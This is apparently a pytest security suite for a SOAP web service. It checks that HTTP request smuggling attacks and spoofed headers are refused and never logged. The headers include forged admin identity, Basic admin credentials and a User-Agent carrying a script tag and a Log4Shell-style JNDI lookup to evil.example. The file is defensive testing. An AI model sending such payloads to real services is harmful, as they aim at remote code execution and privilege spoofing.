"""Hostile HTTP, in memory and over sockets: one answer, the connection's end, and nothing that was smuggled in is acted upon."""

import contextlib
import re
import socket
from typing import Any

import pytest
from twisted.internet.address import IPv4Address
from twisted.internet.task import Clock
from twisted.internet.testing import StringTransport
from twisted.web.resource import Resource

from euca.soap.http import LINGER_S, EndpointResource, HttpLimits, site
from euca.soap.security.profile import TIER_REQUEST
from euca.testing.attacks.catalogue import identifier
from euca.testing.attacks.doors import Receiver
from euca.testing.attacks.http import HTTP_ATTACKS, Ground, HttpAttack
from euca.testing.attacks.material import good_draft
from euca.testing.attacks.targets import Cloud, Target
from euca.testing.echo import Echo
from euca.testing.signed_messages import make

IDS = [identifier(attack.name) for attack in HTTP_ATTACKS]
TIERS = ("cloud", "cluster", "node")


def statuses_of(received: bytes) -> list[int]:
    return [int(found) for found in re.findall(rb"HTTP/1\.[01] ([0-9]{3}) ", received)]


def check_answer(attack: HttpAttack, received: bytes) -> None:
    """One answer, or none to what was never whole."""
    came = statuses_of(received)
    assert len(came) == 1 or (attack.never_whole and not came), received[:200]
    assert set(came) <= set(attack.statuses), received[:200]


class Line:
    """A connection in memory to the service behind HTTP."""

    def __init__(self, echo: Echo) -> None:
        self.receiver = Receiver.at(TIER_REQUEST, echo)
        self.clock = Clock()
        root = Resource()
        root.putChild(b"echo", EndpointResource(self.receiver.endpoint))
        self.factory = site(root, limits=HttpLimits(), clock=self.clock)

    def sends(self, data: bytes) -> bytes:
        """What comes back within the time that a refused connection has."""
        address = IPv4Address("TCP", "192.0.2.1", 1234)
        protocol: Any = self.factory.buildProtocol(address)
        transport = StringTransport(peerAddress=address)
        protocol.makeConnection(transport)
        for start in range(0, len(data), 60_000):
            protocol.dataReceived(data[start : start + 60_000])
        self.clock.advance(LINGER_S)
        self.clock.advance(HttpLimits().header_time_s)
        self.clock.advance(HttpLimits().body_time_s)
        return transport.value()

    def ground(self) -> Ground:
        door = self.receiver.door
        return Ground(path=b"/echo", host=b"echo.example", good=make(good_draft(door)), smuggled=make(good_draft(door)))


@pytest.mark.parametrize("attack", HTTP_ATTACKS, ids=IDS)
def test_a_listener_refuses_it(attack: HttpAttack, echo: Echo) -> None:
    line = Line(echo)
    received = line.sends(attack.make(line.ground()))
    assert echo.calls == [], "something was acted upon"
    check_answer(attack, received)
    assert statuses_of(line.sends(line.ground().request())) == [200]
    assert len(echo.calls) == 1


#: How long a second answer is waited for: one to what was smuggled in would come at once.
MORE_S = 0.05
SILENT_S = 0.5


def reply_to(connection: socket.socket, data: bytes, limit_s: float = 15.0, *, only_one: bool = False) -> bytes:
    """What comes back: one answer, and unless it is the only one what follows it; or nothing within the time."""
    connection.settimeout(limit_s)
    received = b""
    with contextlib.suppress(OSError):
        connection.sendall(data)
    with contextlib.suppress(OSError):
        while part := connection.recv(65536):
            received += part
            if is_whole(received):
                if only_one:
                    break
                connection.settimeout(MORE_S)
    return received


def is_whole(received: bytes) -> bool:
    """Whether the first answer has come to its end."""
    head, end, body = received.partition(b"\r\n\r\n")
    length = re.search(rb"\r\nContent-Length: ([0-9]+)", head, re.IGNORECASE)
    return bool(end) and length is not None and len(body) >= int(length[1])


def ground_of(target: Target) -> Ground:
    return Ground(
        path=target.path.encode(),
        host=b"127.0.0.1:%d" % target.port,
        good=make(good_draft(target.door)),
        smuggled=make(good_draft(target.door)),
    )


@pytest.mark.parametrize("attack", HTTP_ATTACKS, ids=IDS)
@pytest.mark.parametrize("tier", TIERS)
def test_a_running_tier_refuses_it(attack: HttpAttack, tier: str, attacked: Cloud) -> None:
    target = attacked.targets[tier]
    before = attacked.snapshot()
    with target.connect() as connection:
        limit_s = SILENT_S if attack.never_whole else 15.0
        received = reply_to(connection, attack.make(ground_of(target)), limit_s)
    check_answer(attack, received)
    assert attacked.changes(before) == []
    with target.connect() as connection:
        assert statuses_of(reply_to(connection, ground_of(target).request(), only_one=True)) == [200]
    assert attacked.changes(before)


MEANINGLESS = {
    "X-HTTP-Method-Override": "DELETE",
    "X-Method-Override": "GET",
    "X-Forwarded-For": "203.0.113.7",
    "X-Real-IP": "203.0.113.7",
    "X-Euca-Peer": "203.0.113.7",
    "Forwarded": "for=203.0.113.7;proto=https",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Host": "evil.example",
    "X-Original-URL": "/services/Enrol",
    "X-Rewrite-URL": "/services/Enrol",
    "X-Amz-Date": "20110615T000000Z",
    "X-Euca-User": "admin",
    "EffectiveUserId": "eucalyptus",
    "Authorization": "Basic YWRtaW46YWRtaW4=",
    "Cookie": "session=admin",
    "Range": "bytes=0-10",
    "If-None-Match": "*",
    "Accept-Encoding": "gzip",
    "Accept": "application/json",
    "Content-Language": "x",
    "Content-MD5": "AAAAAAAAAAAAAAAAAAAAAA==",
    "Origin": "https://evil.example",
    "User-Agent": "<script>${jndi:ldap://evil.example/x}",
    "TE": "trailers",
    "Via": "1.1 evil",
}


@pytest.mark.case("HTTP headers: those that mean nothing here")
@pytest.mark.parametrize("tier", TIERS)
def test_headers_that_mean_nothing_here(tier: str, attacked: Cloud) -> None:
    """The message counts as it was signed, whoever and whatever they say it is; and none of it reaches the log."""
    target = attacked.targets[tier]
    for name, value in MEANINGLESS.items():
        before = attacked.snapshot()
        reply = target.post(make(good_draft(target.door)), {name: value})
        assert reply.status == 200, name
        assert reply.body.startswith(b"<soap:Envelope") and "Content-Encoding" not in reply.headers, name
        assert attacked.changes(before), name
    log = target.log.read_text()
    assert "203.0.113.7" not in log and "jndi" not in log
